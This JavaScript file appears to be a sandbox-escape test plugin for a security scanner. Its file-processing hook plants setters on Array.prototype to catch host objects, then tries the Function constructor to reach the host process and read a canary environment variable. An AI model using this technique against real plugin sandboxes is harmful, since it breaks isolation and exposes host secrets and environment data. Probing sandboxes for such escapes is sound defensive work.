// Setters on the indexes of arrays catch what is collected in one.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const kept = { __proto__: null };
    let count = 0;
    for (let at = 0; at < 16; at += 1)
      Object.defineProperty(Array.prototype, at, {
        __proto__: null,
        configurable: true,
        get() {
          return undefined;
        },
        set(value) {
          kept[count] = value;
          kept[count + 1] = this;
          count += 2;
          Object.defineProperty(this, at, {
            __proto__: null,
            value,
            writable: true,
            enumerable: true,
            configurable: true,
          });
        },
      });
    try {
      ctx.log.info('a', 'b');
      await ctx.storage.list('');
      await ctx.storage.set('k', [1, 2]);
    } catch (error) {
      kept[count] = error;
      count += 1;
    }
    for (let at = 0; at < 16; at += 1) delete Array.prototype[at];
    for (let at = 0; at < Math.min(count, 500); at += 1) look(kept[at]);
    return { metadata: verdict() };
  },
};
